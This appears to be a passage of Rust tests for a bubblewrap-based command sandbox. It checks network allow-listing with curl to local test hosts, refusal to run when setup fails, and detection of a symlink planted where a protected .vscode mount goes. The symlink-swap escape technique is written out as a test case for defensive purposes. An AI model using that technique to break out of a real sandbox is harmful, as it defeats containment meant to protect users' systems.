        Some(&spec),
        ws,
        &format!("curl -sS --noproxy '*' http://127.0.0.2:{listed}/"),
        &[],
    );
    assert_ne!(ran.code, 0, "{ran:?}");
    assert!(!ran.stdout.contains("listed host"), "{ran:?}");
    let ran = run_in(
        Some(&spec),
        ws,
        &format!("curl -sS -p http://127.0.0.3:{unlisted}/"),
        &[],
    );
    assert_ne!(ran.code, 0, "{ran:?}");
    assert!(ran.stderr.contains("403"), "{ran:?}");
    // Without the sandbox the unlisted host answers (the test tests something).
    let off = run_in(
        None,
        ws,
        &format!("curl -sS http://127.0.0.3:{unlisted}/"),
        &[],
    );
    assert_eq!(off.stdout, "from an unlisted host", "{off:?}");
}

/// A sandbox that cannot be set up runs nothing (SECURITY.md): bubblewrap refuses a workspace
/// that is gone, the command never starts, and the supervisor's own refusal of unreadable
/// settings says why and exits 125.
#[test]
fn a_sandbox_that_cannot_be_set_up_runs_nothing() {
    let Home { root, ws, tmp, .. } = &home();
    let gone = SandboxSpec {
        workspace: root.join("gone"),
        ..spec(ws, tmp, Vec::new(), true)
    };
    let ran = run_in(Some(&gone), ws, "touch ran-anyway", &[]);
    assert_ne!(ran.code, 0, "{ran:?}");
    assert!(ran.stderr.starts_with("bwrap: "), "{ran:?}");
    assert!(!ws.join("ran-anyway").exists());
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_tollgate-sandbox-supervise"));
    let out = cmd
        .args([SUPERVISOR_ARG, "touch ran-anyway"])
        .current_dir(ws)
        .env(SANDBOX_ENV, "{not json")
        .stdin(Stdio::piped())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&out.stderr)
        .starts_with("tollgate-sandbox: the sandbox settings could not be read"));
    assert!(!ws.join("ran-anyway").exists());
}

/// A link planted, after the walk, where the sandbox mounts (a folder on the way to a path it
/// keeps read-only, swapped for a link out of the workspace): bubblewrap before 0.12 would
/// follow it while it sets up. The run stops before bubblewrap starts, saying why; the command
/// never ran and nothing appeared outside.
#[test]
fn a_link_planted_where_a_mount_goes_stops_the_run_before_it_starts() {
    let Home { ws, tmp, root, .. } = &home();
    std::fs::create_dir_all(ws.join("app/.vscode")).unwrap();
    std::fs::write(ws.join("app/.vscode/tasks.json"), "{}").unwrap();
    let spec = spec(ws, tmp, Vec::new(), true);
    assert!(spec.protected.contains(&ws.join("app/.vscode")), "{spec:?}");
    let outside = root.join("outside");
    std::fs::create_dir_all(outside.join(".vscode")).unwrap();
    std::fs::rename(ws.join("app"), ws.join("app-moved")).unwrap();
    std::os::unix::fs::symlink(&outside, ws.join("app")).unwrap();
    let ran = run_in(
        Some(&spec),
        ws,
        "echo ran > ran.txt; echo x > app/.vscode/planted",
        &[],
    );
    assert_ne!(ran.code, 0, "{ran:?}");
    assert!(ran.stderr.contains("changed into a link"), "{ran:?}");
    assert!(!ws.join("ran.txt").exists());
    let left: Vec<_> = std::fs::read_dir(outside.join(".vscode"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert!(left.is_empty(), "{left:?}");
}
